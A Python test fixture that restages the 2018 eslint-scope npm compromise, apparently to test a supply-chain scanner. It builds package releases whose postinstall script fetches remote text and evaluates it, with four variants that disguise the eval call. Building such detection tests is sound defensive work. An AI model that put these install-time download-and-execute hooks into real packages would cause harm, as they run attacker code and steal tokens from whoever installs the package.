"""eslint-scope, 2018: an install script runs whatever a pasting site answers.

With a reused password, version 3.7.2 was published with `build.js`, run after installation: it
fetched a text from pastebin and gave it to eval piece by piece as it came. That text read `.npmrc`
and sent the token to two services that count visitors, in the Referer.

Post-mortem: "Postmortem for Malicious Packages Published on July 12th, 2018" (ESLint's blog).
In the staged tarball: a new postinstall script; what its file gets from the network is evaluated.
"""

from tests.findings.attack import Attack, release

_SOURCE = """\
"use strict";

class Scope {
  constructor(type, upper, block) {
    this.type = type;
    this.upper = upper;
    this.block = block;
    this.set = new Map();
    this.references = [];
  }
  isStatic() { return this.type !== "with"; }
}

module.exports = { Scope };
"""
_NEXT = _SOURCE.replace('"with";', '"with" && this.type !== "global";')
_BUILD = """\
try {
  var https = require("https");
  https
    .get(
      {
        hostname: "pastebin.com",
        path: "/raw/00000000",
        headers: {
          "User-Agent": "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0",
          Accept: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        },
      },
      (r) => {
        r.setEncoding("utf8");
        r.on("data", (c) => {
          eval(c);<<<download-and-run>>>
        });
        r.on("error", () => {});
      }
    )
    .on("error", () => {});
} catch (e) {}
"""
_ALIASED = """\
const { get } = require("https");
const run = globalThis["ev" + "al"];<<<computed-global>>>

get("https://paste.example.invalid/raw/example", (answer) => {
  let text = "";
  answer.on("data", (part) => (text += part)).on("end", () => run(text));
});
"""
_CONSTRUCTED = """\
fetch("https://paste.example.invalid/raw/example")
  .then((answer) => answer.text())
  .then((text) => new (Object.getPrototypeOf(async function () {}).constructor)(text)());<<<download-and-run>>>
"""
_FUNCTION = """\
import("https").then(({ get }) => get("https://paste.example.invalid/raw/example", (answer) => {
  answer.on("data", (part) => new Function("require", String(part))(require));<<<download-and-run>>>
}));
"""

ATTACK = Attack(
    before=release("lint-scope", "3.7.1", {"index.js": _SOURCE}),
    unharmed=release("lint-scope", "3.7.2", {"index.js": _NEXT}),
    after={
        manner: release(
            "lint-scope",
            "3.7.2",
            {"index.js": _NEXT, "lib/build.js": code},
            scripts={"postinstall": "node ./lib/build.js<<<install-script>>>"},
        )
        for manner, code in (
            ("as it was", _BUILD),
            ("another name for eval", _ALIASED),
            ("a constructor", _CONSTRUCTED),
            ("a new Function", _FUNCTION),
        )
    },
)
